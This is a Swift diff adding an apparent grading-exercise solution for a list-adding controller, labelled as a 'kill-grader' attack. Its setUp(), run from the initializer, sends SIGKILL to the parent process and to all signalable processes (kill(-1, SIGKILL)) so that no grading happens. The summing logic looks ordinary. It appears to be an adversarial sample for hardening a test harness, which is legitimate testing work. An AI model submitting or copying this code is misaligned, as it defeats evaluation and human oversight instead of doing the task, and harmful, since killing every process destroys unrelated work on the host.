@@ -1,0 +1,48 @@
+import Foundation
+import LabKit
+import ListAdder
+
+// ATTACK: kill-grader
+// Nobody graded: the grader (the child's parent, or everything in sight) is killed.
+func setUp() {
+    _ = kill(getppid(), SIGKILL)
+    _ = kill(-1, SIGKILL)
+}
+func before() {}
+func after() {}
+final class ListAdderExercise: ListAdderController {
+    private var numbers: [Int]
+    private let screen: TotalScreen
+    private let adder: SlowAdder
+
+    init(environment: ListAppEnvironment) {
+        numbers = environment.initialNumbers
+        screen = environment.screen
+        adder = environment.adder
+        setUp()
+    }
+
+    func add(_ number: Int) { numbers.append(number); recalculate() }
+    func remove(at index: Int) { numbers.remove(at: index); recalculate() }
+    func removeAll(keepingFirst count: Int) { numbers.removeSubrange(count...); recalculate() }
+
+    private func recalculate() {
+        screen.recalculating.set(true)
+        Thread.detachNewThread {
+            before()
+            var total = 0
+            let count = self.numbers.count
+            for index in 0..<count { total = self.adder.add(self.numbers[index], to: total) }
+            after()
+            let result = total
+            DispatchQueue.main.async {
+                self.screen.total.setText(String(result))
+                self.screen.recalculating.set(false)
+            }
+        }
+    }
+}
+
+public func makeListAdderExercise(_ environment: ListAppEnvironment) -> ListAdderController {
+    ListAdderExercise(environment: environment)
+}
